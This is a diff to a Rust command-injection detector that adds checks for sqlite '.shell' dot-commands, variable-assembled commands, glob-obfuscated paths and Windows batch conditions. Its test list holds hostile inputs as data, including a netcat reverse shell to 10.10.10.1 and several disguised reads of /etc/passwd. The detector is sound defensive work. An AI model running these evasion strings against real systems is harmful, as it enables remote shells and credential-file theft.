@@ -6,7 +6,10 @@
 //! (`c''at`, `w\ho\ami`, `$IFS`). A command word only counts in command
 //! position: "the cat sat" is text, "; cat /etc/passwd" is a command.
 
+mod evasion;
+
 use super::Hit;
+use evasion::{hides_command_name, is_glob_path};
 use std::collections::HashSet;
 use std::sync::OnceLock;
 
@@ -383,15 +386,21 @@ fn is_wrapper(word: &str) -> bool {
 
 /// Undoes quoting tricks inside words: `c''at`, `w"h"oami`, `c\at`, `$IFS`, `$@`.
 fn unquote(s: &str) -> String {
-    let s = s
-        .replace("${ifs}", " ")
-        .replace("$ifs", " ")
-        .replace("$@", "")
-        .replace("$*", "")
-        .replace("$!", "")
-        .replace("$$", "")
-        .replace("``", "")
-        .replace("$()", "");
+    // Each expansion below starts with one of these; most values hold none.
+    let s = if s.contains(['$', '`', '<', '>']) {
+        s.replace("${ifs}", " ")
+            .replace("$ifs", " ")
+            .replace("$@", "")
+            .replace("$*", "")
+            .replace("$!", "")
+            .replace("$$", "")
+            .replace("``", "")
+            .replace("$()", "")
+            .replace("<()", "")
+            .replace(">()", "")
+    } else {
+        s.to_owned()
+    };
     // Single-character classes select that character: `/bi[n]/ba[s]h`.
     let b = s.as_bytes();
     let mut unclassed = String::with_capacity(s.len());
@@ -446,6 +455,86 @@ fn unquote(s: &str) -> String {
     String::from_utf8_lossy(&kept).into_owned()
 }
 
+/// Dot-commands of the `sqlite3` shell that reach the operating system or
+/// the file system; the shell accepts any unambiguous prefix of `.shell`
+/// and `.system`.
+fn is_sqlite_dot_command(segment: &str) -> bool {
+    let Some(rest) = segment.strip_prefix('.') else {
+        return false;
+    };
+    let name_len = rest.bytes().take_while(u8::is_ascii_alphabetic).count();
+    let (name, after) = rest.split_at(name_len);
+    if !(after.is_empty() || after.starts_with([' ', '\n'])) {
+        return false;
+    }
+    name.len() >= 2 && ("shell".starts_with(name) || "system".starts_with(name))
+        || matches!(
+            name,
+            "databases"
+                | "tables"
+                | "dump"
+                | "import"
+                | "output"
+                | "once"
+                | "load"
+                | "read"
+                | "open"
+        )
+}
+
+/// Assignments read when looking for a command assembled from variables.
+const MAX_ASSIGNMENTS: usize = 32;
+
+/// `a=/etc&&b=/passwd&&c=cat&&$c $a$b`, `c1=c;c2=at;$c1$c2 /etc/passwd`: the
+/// value assigns shell variables and then runs one in command position, so
+/// no command name is ever written out.
+fn runs_assembled_command(s: &str, starts: &[(usize, bool)]) -> bool {
+    let mut assigned: Vec<&str> = Vec::new();
+    for &(start, _) in starts {
+        let segment = s[start..].trim_start_matches([' ', '&', '|', ';', '\n']);
+        let name_len = segment
+            .bytes()
+            .take_while(|b| b.is_ascii_alphanumeric() || *b == b'_')
+            .count();
+        if name_len > 0 && segment[name_len..].starts_with('=') {
+            if assigned.len() < MAX_ASSIGNMENTS {
+                assigned.push(&segment[..name_len]);
+            }
+            continue;
+        }
+        if let Some(expanded) = segment.strip_prefix('$') {
+            let expanded = expanded.strip_prefix('{').unwrap_or(expanded);
+            let used_len = expanded
+                .bytes()
+                .take_while(|b| b.is_ascii_alphanumeric() || *b == b'_')
+                .count();
+            if used_len > 0 && assigned.contains(&&expanded[..used_len]) {
+                return true;
+            }
+        }
+    }
+    false
+}
+
+/// The first words of a `cmd.exe` condition, a `"quoted string"` being one.
+fn batch_words(s: &str) -> Vec<&str> {
+    let mut words = Vec::new();
+    let mut rest = s.trim_start();
+    while words.len() < 3 && !rest.is_empty() {
+        // A quoted part may hold spaces; the word goes on to the next space.
+        let unquoted_from = match rest.strip_prefix('"') {
+            Some(quoted) => quoted.find('"').map_or(rest.len(), |i| i + 2),
+            None => 0,
+        };
+        let end = rest[unquoted_from..]
+            .find(char::is_whitespace)
+            .map_or(rest.len(), |i| unquoted_from + i);
+        words.push(&rest[..end]);
+        rest = rest[end..].trim_start();
+    }
+    words
+}
+
 fn is_separator(c: char) -> bool {
     matches!(c, ';' | '|' | '&' | '\n' | '`')
 }
@@ -462,6 +551,20 @@ fn shell_args(args: &str) -> bool {
             .next()
             .is_some_and(|w| w.contains('/') || w.contains('.') || w.contains('='))
         || has_option(args)
+}
+
+/// Whether the first argument is an option and nothing but one (`-t`,
+/// `--version`, `--url=x`), not `-h:` or `--` in a sentence.
+fn starts_with_clean_option(args: &str) -> bool {
+    let Some(first) = args.split_whitespace().next() else {
+        return false;
+    };
+    let name = first.trim_start_matches('-');
+    let name = name.split('=').next().unwrap_or(name);
+    first.starts_with('-')
+        && first.len() - first.trim_start_matches('-').len() <= 2
+        && name.bytes().next().is_some_and(|b| b.is_ascii_alphabetic())
+        && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
 }
 
 /// Whether one of the first arguments is an option (`-m`, `--list`).
@@ -497,15 +600,16 @@ fn command_word(segment: &str) -> (&str, &str) {
 /// Whether the value's first word is a command (or a Windows `if`/`for`):
 /// the cheap test that decides whether the shell reading runs at all.
 pub fn starts_with_command(folded: &str) -> bool {
-    let (raw, _) = command_word(folded.trim_start_matches(['\'', '"', ' ']));
+    let (raw, args) = command_word(folded.trim_start_matches(['\'', '"', ' ', '\\']));
     let word = raw.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
     is_command(raw)
         || is_command(word)
         || raw
             .split_once('-')
-            .is_some_and(|(tool, _)| is_command(tool) && !is_wordlike(tool))
+            .is_some_and(|(tool, _)| is_command(tool) && (!is_wordlike(tool) || has_option(args)))
         || is_wrapper(word)
         || word == "if"
+        || word.starts_with("if/")
         || word == "for"
         || word.starts_with('/')
 }
@@ -546,19 +650,23 @@ pub fn detect(folded: &str, text: &str, hits: &mut Vec<Hit>) {
             return;
         }
     }
-    let windows_if = s.trim_start().strip_prefix("if ").is_some_and(|rest| {
-        let rest = rest.trim_start();
-        let rest = rest.strip_prefix("/i ").unwrap_or(rest).trim_start();
-        let rest = rest.strip_prefix("not ").unwrap_or(rest).trim_start();
-        let words: Vec<&str> = rest.split_whitespace().take(3).collect();
-        ["exist", "defined", "errorlevel", "cmdextversion"]
-            .iter()
-            .any(|k| words.first() == Some(k))
-            || words
-                .get(1)
-                .is_some_and(|op| ["equ", "neq", "lss", "leq", "gtr", "geq", "=="].contains(op))
-            || words.first().is_some_and(|w| w.contains("=="))
-    });
+    let windows_if = s
+        .trim_start()
+        .strip_prefix("if")
+        .filter(|rest| rest.starts_with([' ', '/']))
+        .is_some_and(|rest| {
+            let rest = rest.trim_start();
+            let rest = rest.strip_prefix("/i").unwrap_or(rest).trim_start();
+            let rest = rest.strip_prefix("not ").unwrap_or(rest).trim_start();
+            let words = batch_words(rest);
+            ["exist", "defined", "errorlevel", "cmdextversion"]
+                .iter()
+                .any(|k| words.first() == Some(k))
+                || words
+                    .get(1)
+                    .is_some_and(|op| ["equ", "neq", "lss", "leq", "gtr", "geq", "=="].contains(op))
+                || words.first().is_some_and(|w| w.contains("=="))
+        });
     if windows_if || s.trim_start().starts_with("for ") && s.contains(" in (") && s.contains(" do ")
     {
         hits.push(Hit::new("cmdi.windows_for_loop", 5.0, 0.9, 1));
@@ -571,15 +679,19 @@ pub fn detect(folded: &str, text: &str, hits: &mut Vec<Hit>) {
             if inner.contains(',')
                 && !inner.contains(' ')
                 && !inner.contains(':')
-                && !inner.contains('"')
+                // JSON-like `{"a","b"}` is data; `$"..."` is shell quoting.
+                && (!inner.contains('"') || inner.contains("$\""))
             {
                 let expanded: String = inner.split(',').next().unwrap_or("").to_owned();
                 let joined = format!("{}{}{}", &s[..open], expanded, &s[open + close + 1..]);
                 let (word, _) = command_word(&joined);
                 if is_command(word)
                     || inner.split(',').any(|w| {
-                        COMMANDS
-                            .contains(&w.trim_start_matches('/').rsplit('/').next().unwrap_or(""))
+                        let w = w.trim_start_matches('$').trim_matches(['\'', '"']);
+                        is_glob_path(w)
+                            || COMMANDS.contains(
+                                &w.trim_start_matches('/').rsplit('/').next().unwrap_or(""),
+                            )
                     })
                 {
                     hits.push(Hit::new("cmdi.brace_expansion", 5.0, 0.8, 1));
@@ -601,6 +713,10 @@ pub fn detect(folded: &str, text: &str, hits: &mut Vec<Hit>) {
         hits.push(Hit::new("cmdi.history_expansion", 5.0, 0.7, 1));
         return;
     }
+    if hides_command_name(folded) {
+        hits.push(Hit::new("cmdi.obfuscated_command", 5.0, 0.85, 1));
+        return;
+    }
     // Command position: after a separator, or at the very start.
     let mut starts: Vec<(usize, bool)> = vec![(0, false)];
     for (i, c) in s.char_indices() {
@@ -608,9 +724,21 @@ pub fn detect(folded: &str, text: &str, hits: &mut Vec<Hit>) {
             starts.push((i + c.len_utf8(), true));
         }
     }
+    if runs_assembled_command(&s, &starts) {
+        hits.push(Hit::new("cmdi.assembled_command", 5.0, 0.85, 1));
+        return;
+    }
     for (start, after_separator) in starts {
         let (word, args) = command_word(&s[start..]);
         let segment = s[start..].trim_start();
+        if is_glob_path(segment.split([' ', '\t']).next().unwrap_or("")) {
+            hits.push(Hit::new("cmdi.glob_path", 5.0, 0.85, 1));
+            return;
+        }
+        if after_separator && is_sqlite_dot_command(segment) {
+            hits.push(Hit::new("cmdi.sqlite_dot_command", 5.0, 0.8, 1));
+            return;
+        }
         let binary_path = [
             "/bin/",
             "/sbin/",
@@ -648,19 +776,25 @@ pub fn detect(folded: &str, text: &str, hits: &mut Vec<Hit>) {
         }
         // `; ansible-config`: a tool's companion binaries, where a command
         // must stand (at the start of a value, `ssh-rsa` is a key type).
-        let word = match word.split_once('-') {
-            Some((tool, _))
-                if (after_separator
-                    || has_option(args)
-                    || args.trim_end_matches([' ', '\t']).ends_with('\n'))
+        let companion_of = match word.split_once('-') {
+            Some((tool, companion))
+                if companion
+                    .bytes()
+                    .next()
+                    .is_some_and(|b| b.is_ascii_alphabetic())
                     && !is_command(word)
                     && is_command(tool)
-                    && !is_wordlike(tool) =>
+                    && (after_separator || has_option(args))
+                    || !is_command(word)
+                        && is_command(tool)
+                        && !is_wordlike(tool)
+                        && args.trim_end_matches([' ', '\t']).ends_with('\n') =>
             {
-                tool
+                Some(tool)
             }
-            _ => word,
+            _ => None,
         };
+        let word = companion_of.unwrap_or(word);
         // `python3.10`, `c99`: a version suffix makes a name a command, not a word.
         let versioned = word.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
         let has_version = versioned.len() < word.len() && !versioned.is_empty();
@@ -697,6 +831,12 @@ pub fn detect(folded: &str, text: &str, hits: &mut Vec<Hit>) {
                 || (!wordlike && shell_args(args) && (!bare || RECON.contains(&word)))
                 || (!wordlike && line_ends)
                 || (wordlike && args.trim_start().starts_with(['/', '-']) && args.contains('/'))
+                // `chef-client -t x`, `env --version`: a tool given an option
+                // first and little else, a command line rather than a sentence
+                // that mentions one.
+                || (companion_of.is_some() || args.trim_start().starts_with("--"))
+                    && starts_with_clean_option(args)
+                    && args.split_whitespace().count() <= 3
         };
         if convincing {
             hits.push(Hit::new(
@@ -733,6 +873,20 @@ mod tests {
             "&& ping -n 3 127.0.0.1",
             "Invoke-WebRequest http://example.com/path/file.ps1",
             "www.example.com;/bin/ca? /et*/passwd",
+            "1;.sh whoami",
+            ";\n.shell nc 10.10.10.1 6666 -e sh\n",
+            "a=/etc&&b=/passwd&&c=cat&&$c $a$b",
+            "pi$()ng 127.0.0.1",
+            "pi<()ng 127.0.0.1",
+            "ping`` 127.0.0.1",
+            "py''thon -c \"print('x')\"",
+            "\\ls",
+            "chef-client -t 1.1.1.1",
+            "env --version",
+            "if/i a==b foo",
+            "{,$'whoami',}",
+            "{/?s?/?i?/c?t,/e??/p??s??,}",
+            "/???/??t /???/p??s??",
         ] {
             assert!(fires(attack), "missed: {attack}");
         }
@@ -748,6 +902,17 @@ mod tests {
             "Wait for me",
             "Balanced fault-tolerant strategy",
             "see docs/bin/what?",
+            "It's a trap; .5 of them agreed",
+            "a=1&b=2; total $5",
+            "I'd say it''s fine",
+            "rock -- and roll",
+            "fix a deadlock on &net->sctp.addr_wq_lock",
+            "fetch-pack: add --no-filter",
+            "git-clone --shared should imply --local",
+            "Make --with-origin the default for syncing.",
+            "- Add column formatting to ``pip list``.",
+            "/docs/*/index.html",
+            "{\"a\",\"b\"}",
         ] {
             assert!(!fires(benign), "false positive: {benign}");
         }
